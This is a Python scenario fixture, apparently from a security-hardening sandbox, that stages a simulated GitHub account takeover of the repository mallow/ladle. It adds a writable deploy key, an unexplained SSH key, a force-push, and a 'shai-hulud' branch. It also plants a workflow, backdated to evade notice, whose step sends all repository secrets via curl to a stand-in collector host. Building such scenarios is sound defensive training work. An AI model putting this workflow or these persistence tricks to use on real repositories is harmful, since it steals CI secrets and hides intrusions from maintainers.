"""What someone with the session of oakley, an admin of mallow/ladle, left there today."""

from __future__ import annotations

from datetime import datetime, timedelta

from hardenme.sandbox.github.scenario.keys import public_key
from hardenme.sandbox.github.state.changes import Run
from hardenme.sandbox.github.world import DeployKey, SshKey, World

STOLEN = "oakley"
"""Whose session it is."""
FOLDER = ".github/workflows"
COLLECTS = b"""on: push
permissions: {}
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://collector.example.test
"""


def break_in(world: World, now: datetime) -> None:
    """Add to the world of mallow what was done in the last two hours."""

    def ago(hours: float) -> datetime:
        return now - timedelta(hours=hours)

    (ladle,) = (one for one in world.repositories if one.full_name == "mallow/ladle")
    ladle.deploy_keys.append(
        DeployKey(
            81_001,
            "build-mirror",
            public_key("ssh-ed25519", "ladle-build-mirror"),
            ago(1.5),
            read_only=False,
            added_by=STOLEN,
        )
    )
    # Its date is old, so that it is not among the latest commits.
    ladle.push(
        ago(1.2),
        STOLEN,
        files={f"{FOLDER}/format.yml": COLLECTS},
        committed=ago(1.2) - timedelta(days=700),
    )
    ladle.push(ago(1), STOLEN, force=True)
    ladle.push(ago(0.7), STOLEN, branch="shai-hulud")
    path = f"{FOLDER}/discussion.yml"
    ladle.runs.append(Run(81_007, path, "push", "shai-hulud", ago(0.7), STOLEN, "Discussion"))
    ladle.pushed_at = ago(0.7)
    mallow = world.user("mallow")
    if mallow is not None:
        key = public_key("ssh-ed25519", "mallow-6")
        mallow.ssh_keys.append(SshKey(506, "new laptop", key, ago(2)))
